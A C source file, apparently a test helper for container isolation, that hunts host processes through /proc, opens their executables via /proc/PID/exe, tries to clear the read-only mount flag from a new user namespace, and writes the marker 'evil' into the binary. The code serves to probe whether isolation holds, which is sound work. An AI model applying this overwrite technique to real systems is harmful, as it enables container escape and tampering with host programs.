/* helper-unseal - get at a program that somebody runs, from inside a container,
 * and write to it */
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/exit.h"
#include "base/fd.h"
#include "base/sys.h"
#include "base/wait.h"
#include "helper.h"

/* How often one process is looked at: it may execute what it ran before. */
#define LOOKS 5

struct prey {
	unsigned long long dev, ino;
	char looks[1 << 16]; /* by pid */
};

static void nap(void)
{
	const struct timespec time = { 0, 1000000 };

	(void)nanosleep(&time, NULL);
}

/* The program of that process, if it is the one; else -1. */
static int open_exe(const char *pid, struct prey *prey)
{
	char path[300];
	struct stat st;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	autofd fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0 || st.st_dev != prey->dev ||
	    st.st_ino != prey->ino || prey->looks[atoi(pid) & 0xffff] >= LOOKS)
		return -1;
	prey->looks[atoi(pid) & 0xffff]++;
	return fd_take(&fd);
}

/* Take the read-only flag off its mount, with the rights of a user namespace
 * of one's own. */
static bool clear_flag(int fd)
{
	const struct sys_mount_attr attr = {
		.attr_clr = SYS_MOUNT_ATTR_RDONLY
	};
	pid_t child = fork();
	int status = 1;

	if (child == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
			_exit(1);
		_exit(sys_mount_setattr(fd, "", AT_EMPTY_PATH, &attr) < 0);
	}
	return waitpid(child, &status, 0) == child && status == 0;
}

static const char *overwrite(int fd)
{
	char path[40];
	long long end = wait_until(1500);

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		autofd file = open(path, O_WRONLY | O_CLOEXEC);

		if (file >= 0)
			return write(file, "evil", 4) == 4 ? "written"
							   : "opened";
		if (errno != ETXTBSY)
			return strerror(errno);
		nap();
	} while (wait_left(end) > 0);
	return "busy";
}

/* One look at all processes; what came of each that runs it is a line. */
static int hunt(struct prey *prey)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	int met = 0;

	while (dir && (entry = readdir(dir))) {
		autofd fd = *entry->d_name >= '0' && *entry->d_name <= '9'
				    ? open_exe(entry->d_name, prey)
				    : -1;

		if (fd < 0)
			continue;
		if (clear_flag(fd))
			puts("unlocked");
		(void)fflush(stdout);
		met++;
		if (fork() == 0) {
			puts(overwrite(fd));
			exit(0);
		}
	}
	if (dir)
		(void)closedir(dir);
	return met;
}

/*
 * Wait for processes that run the file with that device and inode, MS long;
 * take the flag off as fast as can be and write when they run no more.
 */
int helper_unseal(char **argv)
{
	static struct prey prey;
	long long end = wait_until(atoi(argv[3]));
	int met = 0;

	prey.dev = strtoull(argv[1], NULL, 10);
	prey.ino = strtoull(argv[2], NULL, 10);
	puts("up");
	(void)fflush(stdout);
	while (wait_left(end) > 0 && met < 100) {
		int now = hunt(&prey);

		met += now;
		if (now > 0)
			nap();
	}
	while (wait(NULL) > 0 || errno == EINTR)
		;
	printf("met %s\n", met > 0 ? "some" : "none");
	return 0;
}
